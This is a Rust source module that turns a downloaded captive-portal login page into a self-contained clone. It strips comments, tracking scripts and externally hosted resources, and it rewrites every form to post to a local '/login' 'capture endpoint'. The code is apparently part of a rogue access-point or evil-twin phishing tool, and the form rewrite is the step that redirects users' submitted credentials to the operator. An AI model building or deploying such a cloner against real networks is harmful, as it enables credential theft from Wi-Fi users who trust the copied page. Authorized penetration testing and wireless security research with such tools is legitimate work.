//! Portal HTML sanitizer
//!
//! Turns a downloaded captive-portal page into a minimal, self-contained
//! clone: comments and tracking scripts go, externally hosted resources go,
//! and every form is rewritten to post back to our own `/login` endpoint.
//!
//! The stages work on raw substrings, not a DOM. Matching is tag-boundary
//! based (`<form` to the next `>`), so a literal `>` inside an attribute
//! value will cut a tag short. Real portal pages don't do that; a page that
//! does comes out partially cleaned, never panics or loops.

/// Script spans containing any of these keywords are dropped wholesale.
const TRACKER_KEYWORDS: [&str; 6] = [
    "analytics",
    "gtag",
    "facebook",
    "fbq",
    "google-analytics",
    "_gaq",
];

/// Run the full pipeline over a downloaded portal page.
pub fn transform(html: &str, strip_external: bool) -> String {
    let mut out = strip_comments(html);
    out = strip_tracker_scripts(&out);
    if strip_external {
        out = strip_external_resources(&out);
    }
    rewrite_forms(&out)
}

/// Remove `<!-- ... -->` spans. An unterminated comment start stops the
/// scan and the remainder is kept as-is.
pub fn strip_comments(html: &str) -> String {
    let mut out = html.to_string();

    while let Some(start) = out.find("<!--") {
        match out[start..].find("-->") {
            Some(rel_end) => {
                out.replace_range(start..start + rel_end + 3, "");
            }
            None => break,
        }
    }

    out
}

/// Remove the nearest enclosing `<script>...</script>` span around each
/// tracker keyword occurrence. Occurrences outside any script span are
/// left alone and stepped over.
pub fn strip_tracker_scripts(html: &str) -> String {
    let mut out = html.to_string();

    for keyword in TRACKER_KEYWORDS {
        let mut pos = 0;
        while let Some(rel) = out[pos..].find(keyword) {
            let hit = pos + rel;

            let script_start = out[..hit].rfind("<script");
            let script_end = out[hit..].find("</script>").map(|e| hit + e);

            match (script_start, script_end) {
                (Some(start), Some(end)) => {
                    out.replace_range(start..end + "</script>".len(), "");
                    pos = start;
                }
                _ => {
                    // Keyword not inside a script span; step past it so the
                    // scan always makes progress.
                    pos = hit + 1;
                }
            }
        }
    }

    out
}

/// Remove `<link>`, `<script src=...>`, and `<img>` elements that reference
/// an absolute http(s) URL. Inline and relative-path elements survive.
pub fn strip_external_resources(html: &str) -> String {
    let mut out = strip_external_void_tags(html, "<link");

    // Script elements span to their close tag; a span with an external src
    // goes entirely.
    let mut pos = 0;
    while let Some(rel) = out[pos..].find("<script") {
        let start = pos + rel;
        match out[start..].find("</script>") {
            Some(rel_end) => {
                let end = start + rel_end + "</script>".len();
                let span = &out[start..end];
                if span.contains("src=") && has_absolute_url(span) {
                    out.replace_range(start..end, "");
                    pos = start;
                } else {
                    pos = end;
                }
            }
            None => break,
        }
    }

    strip_external_void_tags(&out, "<img")
}

/// Remove void elements (`<link ...>`, `<img ...>`) whose tag text contains
/// an absolute URL.
fn strip_external_void_tags(html: &str, open: &str) -> String {
    let mut out = html.to_string();
    let mut pos = 0;

    while let Some(rel) = out[pos..].find(open) {
        let start = pos + rel;
        match out[start..].find('>') {
            Some(rel_end) => {
                let end = start + rel_end + 1;
                if has_absolute_url(&out[start..end]) {
                    out.replace_range(start..end, "");
                    pos = start;
                } else {
                    pos = end;
                }
            }
            None => break,
        }
    }

    out
}

fn has_absolute_url(tag: &str) -> bool {
    tag.contains("http://") || tag.contains("https://")
}

/// Point every form at our capture endpoint: rewrite or insert
/// `action="/login"`, and insert `method="POST"` where no method is given.
pub fn rewrite_forms(html: &str) -> String {
    let mut out = html.to_string();

    // First pass: force the action.
    let mut pos = 0;
    while let Some(rel) = out[pos..].find("<form") {
        let start = pos + rel;
        let Some(rel_end) = out[start..].find('>') else {
            break;
        };
        let end = start + rel_end + 1;
        let tag = &out[start..end];

        if let Some(action) = tag.find("action=") {
            // Replace the quoted value.
            if let Some(q1) = tag[action..].find('"').map(|q| action + q) {
                if let Some(q2) = tag[q1 + 1..].find('"').map(|q| q1 + 1 + q) {
                    let mut new_tag = String::with_capacity(tag.len());
                    new_tag.push_str(&tag[..q1 + 1]);
                    new_tag.push_str("/login");
                    new_tag.push_str(&tag[q2..]);
                    let new_len = new_tag.len();
                    out.replace_range(start..end, &new_tag);
                    pos = start + new_len;
                    continue;
                }
            }
            pos = end;
        } else {
            let mut new_tag = String::with_capacity(tag.len() + 32);
            new_tag.push_str("<form action=\"/login\" method=\"POST\"");
            new_tag.push_str(&tag["<form".len()..]);
            let new_len = new_tag.len();
            out.replace_range(start..end, &new_tag);
            pos = start + new_len;
        }
    }

    // Second pass: forms that already had an action may still lack a method.
    let mut pos = 0;
    while let Some(rel) = out[pos..].find("<form") {
        let start = pos + rel;
        let Some(rel_end) = out[start..].find('>') else {
            break;
        };
        let end = start + rel_end + 1;

        if !out[start..end].contains("method=") {
            out.insert_str(end - 1, " method=\"POST\"");
            pos = end + " method=\"POST\"".len();
        } else {
            pos = end;
        }
    }

    out
}
